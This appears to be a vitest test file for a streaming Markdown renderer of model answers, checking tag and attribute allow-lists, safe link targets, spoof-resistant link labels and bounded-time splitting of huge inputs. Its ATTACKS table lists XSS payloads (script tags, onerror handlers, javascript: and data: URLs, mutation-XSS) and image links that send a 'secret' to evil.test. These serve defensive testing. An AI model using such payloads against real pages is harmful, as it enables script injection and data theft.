import { describe, expect, it } from "vitest";

import { BlockSplitter, WINDOW_CHARACTERS } from "../src/blocks";
import { closeMarks, renderMarkdown, safeTarget } from "../src/markdown";

/** A reader's view of a text that arrives piece by piece: the document after every piece. */
class Page {
  readonly root = document.createElement("div");
  private readonly splitter = new BlockSplitter();
  private readonly drawn: string[] = [];

  show(text: string, isComplete = true): HTMLElement {
    const blocks = this.splitter.update(text, isComplete);
    blocks.forEach((block, index) => {
      const key = `${block.kind} ${block.isOpen} ${block.raw}`;
      if (this.drawn[index] === key) return;
      this.drawn[index] = key;
      const place = this.root.children[index] ?? this.root.appendChild(document.createElement("div"));
      if (block.kind === "markdown") place.replaceChildren(renderMarkdown(block.raw, block.isOpen));
      else place.textContent = block.raw;
    });
    while (this.root.children.length > blocks.length) this.root.lastElementChild?.remove();
    this.drawn.length = blocks.length;
    return this.root;
  }
}

const show = (text: string): HTMLElement => new Page().show(text);

const ALLOWED_TAGS = new Set(
  ("A BLOCKQUOTE BR BUTTON CODE DEL DIV EM H1 H2 H3 H4 H5 H6 HR LI OL P PRE S SPAN STRONG TABLE TBODY TD TH THEAD TR UL").split(" "),
);
const ALLOWED_ATTRIBUTES = new Set(["class", "href", "rel", "start", "tabindex", "target", "title", "type"]);

function expectHarmless(root: HTMLElement): void {
  for (const element of root.querySelectorAll("*")) {
    expect(ALLOWED_TAGS).toContain(element.tagName);
    for (const { name } of element.attributes) expect(ALLOWED_ATTRIBUTES).toContain(name);
  }
  for (const link of root.querySelectorAll("a")) {
    expect(link.getAttribute("href")).toMatch(/^(https?|mailto):/);
    expect(link.rel).toBe("noopener noreferrer");
  }
}

const ATTACKS: Record<string, string> = {
  G1: "<script>alert(1)</script>",
  G2: "<img src=x onerror=alert(1)>",
  "G3 javascript": "[x](javascript:alert(1))",
  "G3 data": "[x](data:text/html,<script>alert(1)</script>)",
  "G3 vbscript": "[x](vbscript:msgbox)",
  "G3 entity": "[x](JaVaScRiPt&#58;alert(1))",
  "G3 tab": "[x](<java\tscript:alert(1)>)",
  "G3 autolink": "<javascript:alert(1)>",
  "G3 definition": "[x]\n\n[x]: javascript:alert(1)",
  "G3 in image": "![x](javascript:alert(1))",
  G4: "![x](https://evil.test/?q=secret)",
  "G4 nested": "[![x](https://evil.test/?q=secret)](https://other.test)",
  "G5 svg": "<svg onload=alert(1)>",
  "G5 math": "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
  "G5 iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "G5 style": "<style>@import 'https://evil.test/x.css'</style>",
  G6: '<a href="https://evil.test" target=_blank onclick=alert(1)>click</a>',
  "G7 noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "G7 template": "<template><template><img src=x onerror=alert(1)></template>",
  "G8 math": "$\\href{javascript:alert(1)}{x}$",
  "G8 mermaid": '```mermaid\n%%{init: {"securityLevel":"loose"}}%%\nclick A "javascript:alert(1)"\n```',
  "G9 entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;",
  "G9 separators": "<scr\u2028ipt>alert(1)</scr\u2029ipt>",
  "fence language": '```"><img src=x onerror=alert(1)>\ncode\n```',
  "link title": '[x](https://ok.test "\\"><img src=x onerror=alert(1)>")',
  "table cell": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
};

describe("what a model writes", () => {
  it.each(Object.entries(ATTACKS))("%s stays harmless", (_name, text) => {
    expectHarmless(show(text));
  });

  it.each(Object.entries(ATTACKS))("%s stays harmless at every split while it streams (G12)", (_name, text) => {
    const byCharacter = new Page();
    for (let end = 1; end <= text.length; end += 1) expectHarmless(byCharacter.show(text.slice(0, end), false));
    const whole = show(text).innerHTML;
    expect(byCharacter.show(text).innerHTML).toBe(whole);
    for (let at = 1; at < text.length; at += 1) {
      const page = new Page();
      expectHarmless(page.show(text.slice(0, at), false));
      expect(page.show(text).innerHTML).toBe(whole);
    }
  });

  it.each(["G1", "G2", "G5 svg", "G5 iframe", "G6", "G7 noscript"])("%s is shown as the text that it is", (name) => {
    const text = ATTACKS[name] ?? "";
    // The quotes and dashes of the text are left alone too: no typographer.
    expect(show(text).textContent?.trim()).toContain(text);
  });

  it("shows an image as a link to its source and never as an image (G4)", () => {
    const root = show("![a chart](https://evil.test/?q=secret)");
    expect(root.querySelector("img")).toBeNull();
    expect(root.textContent?.trim()).toBe("a chart (evil.test)");
    expect(root.querySelector("a")?.href).toBe("https://evil.test/?q=secret");
  });

  it("names the host that a link leads to, unless its text does (G13)", () => {
    expect(show("[bank](https://evil.test/login)").textContent?.trim()).toBe("bank (evil.test)");
    expect(show("[https://bank.test](https://evil.test)").textContent).toContain("(evil.test)");
    expect(show("[bank.test](https://bank.test.evil.test)").textContent).toContain("(bank.test.evil.test)");
    expect(show("[b\u0430nk.test](https://b\u0430nk.test)").textContent).toContain("(xn--");
    expect(show("https://bank.test/a?b=c").textContent?.trim()).toBe("https://bank.test/a?b=c");
    expect(show("<me@home.test>").textContent?.trim()).toBe("me@home.test");
  });

  it("drops what could turn a link's text around (G13)", () => {
    const root = show("[\u202Etset.knab\u202C\u200B](https://evil.test)");
    expect(root.textContent?.trim()).toBe("tset.knab (evil.test)");
  });

  it("replaces what is no character (G14)", () => {
    expect(show("a\0b \uD800 c").textContent?.trim()).toBe("a\uFFFDb \uFFFD c");
  });

  it("makes no link out of a file name", () => {
    expect(show("Run setup.py and see README.md").querySelector("a")).toBeNull();
  });

  it("labels code blocks and keeps their text to the letter", () => {
    const root = show('```python title="x"\nif a < b:\n    print("&amp;")\n```');
    expect(root.querySelector(".code-language")?.textContent).toBe("python");
    expect(root.querySelector("code")?.textContent).toBe('if a < b:\n    print("&amp;")\n');
  });

  it("keeps a table's alignment without a style attribute", () => {
    const cells = show("| a | b |\n|:-:|--:|\n| 1 | 2 |").querySelectorAll("td");
    expect([...cells].map((cell) => cell.className)).toEqual(["align-center", "align-right"]);
  });
});

describe("closeMarks", () => {
  it.each([
    ["It **steers its", "It **steers its**"],
    ["It **steers itself*", "It **steers itself**"],
    ["It **steers itself** ba", "It **steers itself** ba"],
    ["It **", "It"],
    ["- a\n- **b", "- a\n- **b**"],
    ["call `lean(", "call `lean(`"],
    ["call `", "call "],
    ["see [the paper](https://a.te", "see the paper"],
    ["see [the paper](https://a.test)", "see [the paper](https://a.test)"],
    ["2 * 3 * 4", "2 * 3 * 4"],
    ["```js\nlet a = **", "```js\nlet a = **"],
    ["```js", "```js"],
  ])("shows %j as %j while it grows", (raw, shown) => {
    expect(closeMarks(raw)).toBe(shown);
  });

  it("never loses more than the marks themselves", () => {
    for (let end = 1; end <= DOCUMENT.length; end += 1) {
      const raw = DOCUMENT.slice(0, end);
      const bare = (text: string): string => text.replace(/[\s*`[\]()!]/g, "");
      expect(bare(raw).startsWith(bare(closeMarks(raw)))).toBe(true);
    }
  });
});

describe("safeTarget", () => {
  it.each(["javascript:1", " javascript:1", "java\tscript:1", "data:text/html,x", "file:///etc", "blob:x", "/v1/models", "x", "//evil.test"])(
    "refuses %j",
    (href) => expect(safeTarget(href)).toBeNull(),
  );

  it.each(["https://a.test", "http://a.test", "mailto:a@b.test"])("lets %j pass", (href) => {
    expect(safeTarget(href)).not.toBeNull();
  });
});

const DOCUMENT = `# Title

Some *text* over
two lines
===

1. one

   still one
2. two
   - nested

     - deeper

\`\`\`js
let x = 1;

// blank lines inside
\`\`\`

> quote
lazy line

| a | b |
|---|---|
| 1 | 2 |

- [ ] item

    indented

***

~~~
open to the end`;

describe("BlockSplitter", () => {
  it("loses and adds nothing", () => {
    const splitter = new BlockSplitter();
    for (let end = 0; end <= DOCUMENT.length; end += 1) {
      const text = DOCUMENT.slice(0, end);
      expect(splitter.update(text, false).map((block) => block.raw).join("")).toBe(text);
    }
  });

  it("ends with the same document however the text arrived", () => {
    const whole = show(DOCUMENT).innerHTML;
    const page = new Page();
    for (let end = 1; end <= DOCUMENT.length; end += 1) page.show(DOCUMENT.slice(0, end), false);
    expect(page.show(DOCUMENT).innerHTML).toBe(whole);
  });

  it("renders block by block what the whole text would give", () => {
    const together = document.createElement("div");
    together.append(renderMarkdown(DOCUMENT, false));
    const apart = [...show(DOCUMENT).children].map((child) => child.innerHTML).join("");
    expect(apart).toBe(together.innerHTML);
  });

  it("waits for a list to decide itself", () => {
    const page = new Page();
    for (const text of ["1. a\n\n2", "1. a\n\n2.", "1. a\n\n2. b", "1. a\n\n2. b\n\nend\n\nend"]) page.show(text, false);
    expect(page.root.querySelectorAll("ol")).toHaveLength(1);
  });

  it("starts again when the text is another one", () => {
    const splitter = new BlockSplitter();
    splitter.update("a\n\nb\n\nc\n\nd", false);
    expect(splitter.update("x", true).map((block) => block.raw)).toEqual(["x"]);
  });

  it.each(["\r\n", "\r"])("counts lines that end with %j", (end) => {
    const text = ["a", "", "b", "", "c", "", "d", ""].join(end);
    expect(new BlockSplitter().update(text, true).map((block) => block.raw)).toEqual([`a${end}${end}`, `b${end}${end}`, `c${end}${end}`, `d${end}`]);
  });

  it("takes a code block larger than a window apart, and finds its end", () => {
    const text = `\`\`\`js\n${"let a = 1;\n".repeat(12_000)}\`\`\`\n\nAfter **it**.`;
    const blocks = new BlockSplitter().update(text, true);
    expect(blocks.map((block) => block.raw).join("")).toBe(text);
    expect(blocks.every((block) => block.raw.length <= WINDOW_CHARACTERS)).toBe(true);
    expect(blocks.at(-1)).toMatchObject({ kind: "markdown", raw: "\nAfter **it**." });
    expect(show(text).querySelectorAll("strong")).toHaveLength(1);
  });
});

const HUGE: Record<string, string> = {
  "unclosed fence of 1 MiB": "```\n" + "x = 1\n".repeat(175_000),
  "100,000 backticks": "`".repeat(100_000),
  "100,000 stars": "*".repeat(100_000),
  "table of 1,000 by 1,000": `${"|a".repeat(1000)}|\n${"|-".repeat(1000)}|\n${`${"|b".repeat(1000)}|\n`.repeat(1000)}`,
  "list 500 deep": Array.from({ length: 500 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n"),
  "100,000 brackets": "[".repeat(100_000),
  "100,000 quotes": ">".repeat(100_000),
  "200,000 characters of prose": "Some **bold** words, `code` and more.\n\n".repeat(5_200),
};

describe("huge answers (G10, G11, G17)", () => {
  it.each(Object.entries(HUGE))("%s is split in bounded time", (_name, text) => {
    const splitter = new BlockSplitter();
    const started = performance.now();
    const blocks = splitter.update(text, false);
    expect(performance.now() - started).toBeLessThan(3_000); // ample: other work may share the machine
    expect(blocks.map((block) => block.raw).join("")).toBe(text);
    expect(blocks.every((block) => block.raw.length <= WINDOW_CHARACTERS)).toBe(true);
  });

  it("draws only what changed when a long answer grows", () => {
    const splitter = new BlockSplitter();
    const text = HUGE["200,000 characters of prose"] ?? "";
    const before = splitter.update(text, false);
    const after = splitter.update(`${text}One more word`, false);
    const numSame = before.filter((block, index) => after[index]?.raw === block.raw).length;
    expect(after.length - numSame).toBeLessThan(3);
  });
});
